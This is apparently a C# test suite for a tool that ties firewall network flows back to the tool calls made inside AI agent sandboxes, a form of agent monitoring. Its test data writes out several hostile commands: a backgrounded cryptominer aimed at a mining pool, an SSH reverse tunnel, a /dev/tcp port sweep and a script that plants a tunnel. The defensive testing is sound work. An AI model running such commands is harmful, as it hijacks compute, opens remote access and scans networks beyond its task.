// SPDX-License-Identifier: Apache-2.0
using CsCheck;
using FwCorrelate.Correlation;
using FwCorrelate.Flows;
using FwCorrelate.Network;

namespace FwCorrelate.Core.Tests.Correlation;

[TestClass]
public sealed class AttributorTests
{
    private const string Address = "10.0.0.1";
    private const string Pool = "198.51.100.33";
    private const string Miner = "nohup ./m 198.51.100.33:3333 >/dev/null 2>&1 & echo ok";

    [TestMethod]
    public void Attribute_DestinationInTheRunningCommand_NamesTheCall()
    {
        var attribution = Sandbox().Call("c1", "s1", 100, 101, Miner).Flow(Address, Pool, 3333, 100.3).Attribute().Single();
        Assert.AreEqual(AttributionKind.ToolCall, attribution.Kind);
        Assert.AreEqual("c1", attribution.Call!.CallId);
        Assert.AreEqual(Rung.B, attribution.Rung);
        Assert.IsGreaterThanOrEqualTo(0.99, attribution.Confidence);
    }

    [TestMethod]
    [DataRow(Address)]
    [DataRow("10.0.0.0/24")]
    [DataRow(null)]
    public void Attribute_LeaseRowThatCouldNotBeRead_NamesNobody(string? lost)
    {
        var attribution = Sandbox().LostLease(lost).Call("c1", "s1", 100, 101, Miner).Flow(Address, Pool, 3333, 100.3).Attribute().Single();
        Assert.AreEqual(AttributionKind.Candidates, attribution.Kind);
        Assert.AreEqual(Rung.D, attribution.Rung);
        Assert.Contains("leases.csv:9 could not be read and may say who else held 10.0.0.1", attribution.Reasons);
    }

    [TestMethod]
    public void Attribute_LeaseRowOfAnotherAddressThatCouldNotBeRead_ChangesNothing()
    {
        var attribution = Sandbox().LostLease("10.0.0.2").Call("c1", "s1", 100, 101, Miner).Flow(Address, Pool, 3333, 100.3).Attribute().Single();
        Assert.AreEqual((AttributionKind.ToolCall, Rung.B), (attribution.Kind, attribution.Rung));
    }

    [TestMethod]
    public void Attribute_HostBesideALeaseRowThatCouldNotBeRead_IsUnknown()
    {
        var attribution = new World().Host("h1", Address).LostLease(Address).Flow(Address, Pool, 3333, 100.3).Attribute().Single();
        Assert.AreEqual((AttributionKind.UnknownAddress, Rung.E), (attribution.Kind, attribution.Rung));
    }

    [TestMethod]
    [DataRow(TcpFlags.Push, "ls", "c1")]
    [DataRow(TcpFlags.Push, "nohup ./setup.sh &", null)]
    [DataRow(TcpFlags.Syn, "nohup ./setup.sh &", "c1")]
    public void Attribute_LiteralOnASharedAddressAtTheLogsBegin_IsNamedOnlyWhereNoOtherCallMayHaveOpenedItBefore(
        TcpFlags flags, string other, string? named)
    {
        const string doubt = "the address is shared, and the connection may have opened before the log began, by another call too";
        var start = flags == TcpFlags.Syn ? World.LogBegan - 199.7 : World.LogBegan + 5;
        var attribution = Sandbox().Sandbox("s2", Address).Call("c1", "s1", World.LogBegan - 200, World.LogBegan - 199, Miner)
            .Call("c2", "s1", World.LogBegan - 300, World.LogBegan - 299, other)
            .Flow(Address, Pool, 3333, start, flags: flags).Attribute().Single();
        Assert.AreEqual(named, attribution.Call?.CallId);
        Assert.AreEqual(named is null, attribution.Reasons.Contains(doubt));
    }

    /// <summary>Two processes of the sandbox may go there: the first was there before the log, the second shows itself just then.</summary>
    [TestMethod]
    public void Attribute_BesideWhatStoodAtTheLogsBegin_OnASharedAddress_IsNotNamedByIt()
    {
        var attributions = Sandbox().Sandbox("s2", Address).Call("c1", "s1", World.LogBegan - 200, World.LogBegan - 199, Miner)
            .Flow(Address, Pool, 3333, World.LogBegan, World.LogBegan + 60, flags: TcpFlags.Ack)
            .Flow(Address, Pool, 3333, World.LogBegan + 1, sourcePort: 40001).Attribute();
        Assert.AreEqual(("c1", null), (attributions[0].Call?.CallId, attributions[1].Call?.CallId));
        Assert.Contains("the address is shared: what an earlier connection hands on names nobody", attributions[1].Reasons);
    }

    [TestMethod]
    public void Attribute_StampWithTwoReadings_ListsTheCallsOfBoth()
    {
        var attribution = Sandbox().Call("c1", "s1", 100, 101, Miner).Call("c2", "s1", 3700, 3701, Miner)
            .Flow(Address, Pool, 3333, 100.3, otherStartMinutes: 60).Attribute().Single();
        Assert.AreEqual(AttributionKind.Candidates, attribution.Kind);
        CollectionAssert.AreEquivalent((string[])["c1", "c2"], attribution.Candidates.Select(c => c.Call.CallId).ToList());
    }

    [TestMethod]
    public void Attribute_ManyConnectionsOfManyHolders_ShareWhatIsSaidOfThem()
    {
        var world = new World();
        for (var i = 0; i < 50; i++)
            world.Sandbox($"s{i}", Address);
        for (var i = 0; i < 50; i++)
            world.Flow(Address, Pool, 3333, 100 + i, sourcePort: 40000 + i);
        var leases = world.Attribute().Select(a => a.Leases).ToList();
        Assert.HasCount(50, leases[0]);
        Assert.IsTrue(leases.TrueForAll(l => ReferenceEquals(l, leases[0])));
    }

    [TestMethod]
    public void Attribute_LaterPartsAndReconnections_InheritTheCall()
    {
        var attributions = Sandbox().Call("c1", "s1", 100, 101, Miner).Call("c2", "s1", 500, 520, "pytest -q")
            .Flow(Address, Pool, 3333, 100.3, 160, 40001).Flow(Address, Pool, 3333, 190, 260, 40002).Attribute();
        Assert.IsTrue(attributions.All(a => a.Call?.CallId == "c1"));
        Assert.IsTrue(attributions[1].Inherited);
    }

    [TestMethod]
    public void Attribute_ForegroundCommandLongOver_IsNotInherited()
    {
        var attributions = Sandbox().Call("c1", "s1", 100, 104, "curl -m 2 http://198.51.100.33:3333/").Call("c2", "s1", 500, 520, "./build.sh")
            .Flow(Address, Pool, 3333, 100.3, 101, 40001).Flow(Address, Pool, 3333, 505, 560, 40002).Attribute();
        Assert.AreEqual("c1", attributions[0].Call?.CallId);
        Assert.AreNotEqual("c1", attributions[1].Call?.CallId);
        Assert.IsFalse(attributions[1].Inherited);
    }

    [TestMethod]
    public void Attribute_DaemonThatRecurs_IsNeverNamed()
    {
        var world = Sandbox().Call("c1", "s1", 100, 100.2, "ssh -fN -R 1:127.0.0.1:22 u@203.0.113.66").Call("c2", "s1", 193, 196, "python3 x.py");
        for (var i = 0; i < 7; i++)
            world.Flow(Address, "198.51.100.44", 4444, 101.2 + (47 * i), 103.2 + (47 * i), 41000 + i);
        Assert.IsTrue(world.Attribute().All(a => a.Call is null));
    }

    [TestMethod]
    public void Attribute_TwoCallsNameTheDestinationAtOnce_ListsBothAndNamesNone()
    {
        var attribution = Sandbox().Call("c1", "s1", 100, 130, "curl http://203.0.113.9:8080/a").Call("c2", "s1", 100.2, 130, "curl http://203.0.113.9:8080/b")
            .Flow(Address, "203.0.113.9", 8080, 100.5).Attribute().Single();
        Assert.AreEqual(AttributionKind.Candidates, attribution.Kind);
        Assert.HasCount(2, attribution.Candidates);
        Assert.AreEqual(1.0, attribution.Candidates.Sum(c => c.Weight) + attribution.NoneWeight, 1e-9);
    }

    [TestMethod]
    public void Attribute_SharedAddress_NamesOnlyALiteralDestination()
    {
        var named = Shared().Call("c1", "s1", 100, 125, "./xm 198.51.100.33:14444 20").Call("c2", "s2", 99, 130, "pytest").Flow(Address, Pool, 14444, 100.3).Attribute().Single();
        Assert.AreEqual("c1", named.Call?.CallId);
        Assert.AreEqual(Rung.D, named.Rung);

        var sweep = "for i in $(seq 1 87); do bash -c \"</dev/tcp/10.9.9.$i/6379\"; done";
        var pattern = Shared().Call("c1", "s1", 100, 125, sweep).Flow(Address, "10.9.9.4", 6379, 100.3).Attribute().Single();
        Assert.AreEqual(AttributionKind.Candidates, pattern.Kind);
        Assert.AreEqual("c1", pattern.Candidates[0].Call.CallId);
    }

    [TestMethod]
    public void Attribute_SharedAddressTwoLiterals_NamesNone() => Assert.IsNull(
        Shared().Call("c1", "s1", 100, 125, "./xm 198.51.100.33:14444 20").Call("c2", "s2", 99, 130, "./xm 198.51.100.33:14444 9")
            .Flow(Address, Pool, 14444, 100.3).Attribute().Single().Call);

    [TestMethod]
    public void Attribute_AddressUsedAgainWithinTheSlack_IsShared()
    {
        var attribution = new World(slackSeconds: 60).Sandbox("s1", Address, to: 100).Sandbox("s2", Address, from: 120)
            .Call("c1", "s1", 80, 95, "./deploy.sh").Call("c2", "s2", 125, 140, "./deploy.sh").Flow(Address, Pool, 3333, 110).Attribute().Single();
        Assert.AreEqual(Rung.D, attribution.Rung);
        Assert.IsNull(attribution.Call);
    }

    [TestMethod]
    public void Attribute_ConnectionThatMayHaveRunBefore_IsNotNamedByTime()
    {
        var attribution = Sandbox().Call("c1", "s1", 100, 101, "./deploy.sh").Flow(Address, Pool, 3333, 100.3, flags: TcpFlags.Push).Attribute().Single();
        Assert.IsNull(attribution.Call);
    }

    [TestMethod]
    public void Attribute_TraceWithGaps_IsNotNamedByTime()
    {
        World Short(bool fullTrace) => new World(slackSeconds: 0).Sandbox("s1", Address).Call("c1", "s1", 100, 100.5, "./deploy.sh", fullTrace).Flow(Address, Pool, 3333, 100.2);
        Assert.AreEqual("c1", Short(fullTrace: true).Attribute().Single().Call?.CallId);
        Assert.IsNull(Short(fullTrace: false).Attribute().Single().Call);
    }

    [TestMethod]
    public void Attribute_ScriptWrittenByAnEarlierCall_IsFollowed()
    {
        var attribution = Sandbox().Call("c1", "s1", 50, 51, "cat > deploy.sh <<'X'\nssh -fN -R 1:a:22 u@203.0.113.66\nX")
            .Call("c2", "s1", 100, 101, "./deploy.sh; sleep 1").Flow(Address, "203.0.113.66", 22, 100.2, hasFlags: false).Attribute().Single();
        Assert.AreEqual("c2", attribution.Call?.CallId);
    }

    [TestMethod]
    public void Attribute_OpenedFromOutside_IsNoCalls()
    {
        var attribution = Sandbox().Call("c1", "s1", 100, 130, "./deploy.sh").Flow("192.0.2.200", Address, 22, 101).Attribute().Single();
        Assert.AreEqual(AttributionKind.None, attribution.Kind);
    }

    [TestMethod]
    public void Attribute_IntruderInside_IsNotLaidOnAShortCall()
    {
        var attributions = Sandbox().Call("c1", "s1", 100, 100.5, "./deploy.sh")
            .Flow("192.0.2.200", Address, 22, 60, 400, 50000).Flow(Address, Pool, 3333, 100.2, 160).Attribute();
        Assert.IsNull(attributions[1].Call);
    }

    [TestMethod]
    public void Attribute_HostAndUnknownAddress_SayWhatIsKnown()
    {
        var world = new World().Host("trainer", "10.0.0.9").Flow("10.0.0.9", Pool, 3333, 1).Flow("10.0.0.77", Pool, 3333, 2);
        var attributions = world.Attribute();
        Assert.AreEqual(AttributionKind.None, attributions[0].Kind);
        Assert.AreEqual(AttributionKind.UnknownAddress, attributions[1].Kind);
        Assert.AreEqual(Rung.E, attributions[1].Rung);
        Assert.IsEmpty(world.MissingEvidence()[0]);
        Assert.IsNotEmpty(world.MissingEvidence()[1]);
    }

    [TestMethod]
    public void Attribute_ConnectionsOfOthersLaidAside_SaysTheSame()
    {
        const string Other = "10.0.0.12";
        World With(bool others)
        {
            var world = Sandbox().Host("trainer", Other).Call("c1", "s1", 100, 160, "python train.py").Flow(Address, Pool, 3333, 120).Flow(Address, Pool, 3333, 400, sourcePort: 40001);
            for (var i = 0; others && i < 20; i++)
                world.Flow(Other, Pool, 3333, 10 + (i * 30), sourcePort: 41000 + i);
            return world;
        }

        var all = With(others: true);
        var own = With(others: false);
        var whole = all.Connections().Zip(all.Attribute()).Where(c => c.First.Initiating.Address == HostAddress.Parse(Address)).Select(c => c.Second).ToList();
        var parted = own.Attribute([.. all.Connections().Where(c => c.Initiating.Address == HostAddress.Parse(Other)).Reverse()]);
        Assert.AreSequenceEqual(whole.Select(a => (a.Kind, a.Confidence, a.NoneWeight)), parted.Select(a => (a.Kind, a.Confidence, a.NoneWeight)));
        Assert.AreNotEqual(own.Attribute()[0].NoneWeight, parted[0].NoneWeight, "What was laid aside tells nothing.");
    }

    [TestMethod]
    public void Attribute_AnyWorld_WeightsSumToOneAndNamesAreSure() =>
        Gen.Select(Gen.Int[0, 600], Gen.Int[0, 60], Gen.Bool, Gen.Bool).Array[1, 8].Select(Gen.Int[0, 700].Array[1, 6]).Sample((calls, flows) =>
        {
            var world = Sandbox();
            for (var i = 0; i < calls.Length; i++)
                world.Call("c" + i, "s1", calls[i].Item1, calls[i].Item1 + calls[i].Item2, calls[i].Item3 ? Miner : calls[i].Item4 ? "ls" : "./x.sh");
            for (var i = 0; i < flows.Length; i++)
                world.Flow(Address, Pool, 3333, flows[i], flows[i] + 5, 41000 + i);
            return world.Attribute().All(a => Math.Abs(a.Candidates.Sum(c => c.Weight) + a.NoneWeight - 1) < 1e-9
                && (a.Kind == AttributionKind.ToolCall) == (a.Call is not null)
                && (a.Call is null || a.Confidence >= 0.99));
        }, iter: 200);

    private static World Sandbox() => new World().Sandbox("s1", Address);

    private static World Shared() => new World().Sandbox("s1", Address).Sandbox("s2", Address);
}
